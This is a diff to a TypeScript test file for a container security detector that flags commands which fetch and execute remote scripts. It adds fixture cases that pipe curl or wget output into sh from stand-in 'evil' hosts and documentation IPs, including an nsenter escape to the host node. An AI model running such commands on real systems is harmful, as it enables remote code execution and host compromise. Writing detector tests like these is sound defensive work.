@@ -7,8 +7,37 @@ import { PUBLISHERS } from '../publishers.ts';
 import { blank, cronJob, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
 import { commandRemoteFetchExecute } from './remote-fetch-execute.ts';
 
+const of = (image: string, text: string) =>
+  cronJob({ containers: [{ name: 'main', image, command: ['/bin/sh', '-c', text] }] });
+const OWN = 'https://raw.githubusercontent.com/acme/api/main/check.sh';
+
 indicatorTable(commandRemoteFetchExecute, {
   fires: {
+    'a script of another account than the one of the image': of(
+      'ghcr.io/acme/tools',
+      'curl -s https://raw.githubusercontent.com/acmee/api/main/check.sh | sh',
+    ),
+    'an account of the same name at another registry': of('docker.io/acme/tools', `curl -s ${OWN} | sh`),
+    'an address that leads up from the account': of(
+      'ghcr.io/acme/tools',
+      'curl -s https://raw.githubusercontent.com/acme/../evil/x/main/x.sh | sh',
+    ),
+    'a part of the address that nobody has seen': of(
+      'ghcr.io/acme/tools',
+      'curl -s "https://raw.githubusercontent.com/acme/$WHERE/x.sh" | sh',
+    ),
+    'its own script by plain http': of('ghcr.io/acme/tools', `curl -s ${OWN.replace('https', 'http')} | sh`),
+    'its own script, on the node': of('ghcr.io/acme/tools', `nsenter -t 1 -m -- sh -c 'curl -s ${OWN} | sh'`),
+    'its own script and another one': of(
+      'ghcr.io/acme/tools',
+      `curl -s ${OWN} https://raw.githubusercontent.com/evil/x/main/x.sh | sh`,
+    ),
+    'a script of the account of a neighbour container': cronJob({
+      containers: [
+        { name: 'good', image: 'ghcr.io/acme/tools' },
+        { name: 'main', image: 'alpine', command: ['sh', '-c', `curl -s ${OWN} | sh`] },
+      ],
+    }),
     'an address that deno runs': runs('deno', 'run', '-A', 'https://203.0.113.7/mod.ts'),
     'curl into sh': runs('sh', '-c', 'curl -s http://203.0.113.7/x | sh'),
     'wget into an absolute bash path': runs('/bin/sh', '-c', 'wget -qO- 203.0.113.7|/bin/bash'),
@@ -73,6 +102,11 @@ indicatorTable(commandRemoteFetchExecute, {
     ),
   },
   staysSilent: {
+    'a script of the account that publishes the image': of('ghcr.io/acme/tools', `curl -s ${OWN} | sh`),
+    'the same on another forge': of(
+      'registry.gitlab.com/acme/ops/tools:1',
+      'wget -qO /tmp/x https://gitlab.com/acme/ops/-/raw/main/x.sh && sh /tmp/x',
+    ),
     'what awk reads and puts into a command': runs('awk', 'BEGIN{"date" | getline d; system("echo " d)}'),
     'a download that is kept in memory': runs(
       'python3',
